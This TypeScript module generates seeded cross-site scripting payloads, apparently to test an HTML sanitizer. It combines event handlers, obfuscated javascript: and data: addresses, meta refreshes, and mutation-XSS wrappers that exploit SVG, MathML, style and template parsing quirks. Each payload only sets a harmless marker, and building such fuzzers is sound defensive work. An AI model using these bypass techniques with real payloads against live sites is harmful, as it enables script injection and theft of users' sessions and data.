import { randomFrom } from './random.ts';

/** The effect of each payload if it ran. */
const RUN = 'globalThis.pwned=1';

const EVENTS = (
  'onerror onload onclick onfocus onmouseover onpointerenter ontoggle onbegin onend onanimationstart ontransitionrun onloadstart ' +
  'onbeforeinput onscroll onwheel oncut onpageshow onhashchange onmessage onbeforetoggle oncontentvisibilityautostatechange'
).split(' ');

const TAGS = (
  'img svg math video audio iframe object embed details input body marquee a p form button style link meta base textarea select ' +
  'table td animate set use foreignObject image source track dialog isindex keygen x-element figure blockquote li picture frameset ' +
  'applet bgsound portal template slot mglyph annotation-xml'
).split(' ');

const ADDRESS_ATTRIBUTES = (
  'href src srcset action formaction poster data xlink:href background cite longdesc ping manifest srcdoc code archive dynsrc lowsrc ' +
  'data-src usemap'
).split(' ');

/** Ways to write an address that runs. */
const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6a;&#x61;vascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://news.example/%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${RUN}</script>`,
  `data:text/vtt,WEBVTT`,
  `blob:https://news.example/${RUN}`,
  `filesystem:https://news.example/temporary/x`,
  `https://news.example/a 1x, javascript:${RUN} 2x`,
  `view-source:javascript:${RUN}`,
  `jar:https://news.example!/x`,
];

const RUNNING = ADDRESSES.filter((address) => !address.startsWith('https:'));

/** Markup that is parsed differently the second time, or in another place. */
const WRAPPERS: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<svg>${inner}</svg>`,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<math><mtext>${inner}</mtext></math>`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}-->`,
  (inner) => `<math><annotation-xml encoding="text/html"><style>${inner}</style></annotation-xml></math>`,
  (inner) => `<svg><style><a title="</style>${inner}">`,
  (inner) => `<svg></p><style><a id="</style>${inner}">`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<select><template><style><!--</style>${inner}-->`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<div><template shadowrootmode="open">${inner}</template></div>`,
  (inner) => `<textarea></textarea>${inner}`,
  (inner) => `<xmp><p title="</xmp>${inner}">`,
  (inner) => `<!--><p>${inner}<!-- -->`,
  (inner) => `<![CDATA[><p>${inner}]]>`,
  (inner) => `<table><caption>${inner}</caption><tr><td>Cell</td></tr></table>`,
  (inner) => `<ul><li>${inner}</li></ul>`,
  (inner) => `<blockquote>${inner}</blockquote>`,
  (inner) => `<figure>${inner}<figcaption>${inner}</figcaption></figure>`,
  (inner) => `<a href="https://news.example/other">${inner}</a>`,
  (inner) => `<form id="x"><input name="attributes"><input name="nodeName">${inner}</form>`,
  (inner) => `<p><b><i><a><font><nobr>${inner}`,
];

const QUOTES = ['"', "'", ''] as const;

type Random = (below: number) => number;

function element(random: Random): string {
  const pick = <T>(list: readonly T[]): T => list[random(list.length)] as T;
  const tag = pick(TAGS);
  const quote = pick(QUOTES);
  const quoted = (value: string): string =>
    quote === '' ? value.replace(/[\s>"'=<`]/g, '') : `${quote}${value.replaceAll(quote, '`')}${quote}`;
  const parts = [
    () => `${pick(EVENTS)}=${quoted(RUN)}`,
    () => `${pick(EVENTS).toUpperCase()} = ${quoted(RUN)}`,
    () => `${pick(ADDRESS_ATTRIBUTES)}=${quoted(pick(ADDRESSES))}`,
    () => `style=${quoted(`background:url(${pick(ADDRESSES)});behavior:url(x);animation:x`)}`,
    () => `attributeName=href values=${quoted(pick(ADDRESSES))} to=${quoted(pick(ADDRESSES))}`,
    () => 'autofocus tabindex=1 open contenteditable',
    // Leads to an address that the browser does not open: a page that leads away is read no further.
    () => `http-equiv=refresh content=${quoted(`0;url=${pick(RUNNING)}`)}`,
    () => `id=${pick(['root', 'body', 'chrome', 'browser', 'location', 'attributes'])}`,
    () => `is=x-element type=${pick(['image', 'text/html', 'application/xhtml+xml', 'module'])}`,
  ];
  const attributes = Array.from({ length: 1 + random(4) }, () => pick(parts)());
  const between = pick([' ', '/', '\n', '\t', '\f', ' / ']);
  const inner = pick(['', 'words', `<script>${RUN}</script>`, `<script src="data:,${RUN}"></script>`]);
  return `<${pick([tag, tag.toUpperCase()])}${between}${attributes.join(between)}>${inner}</${tag}>`;
}

/** Ends all elements and quotes that a payload left open, so that the next payload is parsed as markup. */
const CLOSED = `"'>-->]]>${[...'style script textarea title noscript xmp noframes'.split(' '), ...TAGS]
  .map((tag) => `</${tag}>`)
  .join('')}`;

/** Returns so many different pieces of markup that would run something. Equal seeds give equal pieces. */
export function payloads(count: number, seed: number): string[] {
  const random = randomFrom(seed);
  const made = new Set<string>();
  while (made.size < count) {
    const wrapper = WRAPPERS[random(WRAPPERS.length)] ?? WRAPPERS[0];
    if (wrapper) made.add(wrapper(element(random)) + CLOSED);
  }
  return [...made];
}
